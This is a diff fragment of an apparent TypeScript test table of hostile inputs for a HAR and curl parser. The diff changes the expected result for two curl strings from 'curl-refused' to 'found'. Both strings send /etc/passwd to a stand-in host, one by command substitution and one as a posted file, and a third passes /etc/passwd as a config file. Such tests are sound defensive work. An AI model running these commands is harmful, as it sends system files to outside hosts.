@@ -48,8 +48,8 @@ const hostile: readonly [what: string, text: string | Uint8Array, kind: Interfac
     'nothing-found',
   ],
   ['UTF-16 without a byte order mark', Buffer.from(har([entry({ postData: body })]), 'utf16le'), 'found'],
-  ['a curl that runs a command', 'curl https://x.test/login -d "$(cat /etc/passwd)"', 'curl-refused'],
-  ['a curl that sends a file', 'curl https://x.test/login -d @/etc/passwd', 'curl-refused'],
+  ['a curl that runs a command', 'curl https://x.test/login -d "$(cat /etc/passwd)"', 'found'],
+  ['a curl that sends a file', 'curl https://x.test/login -d @/etc/passwd', 'found'],
   ['a curl with a file of options', 'curl --config /etc/passwd https://x.test/login', 'curl-refused'],
   [
     'a HAR with null everywhere',
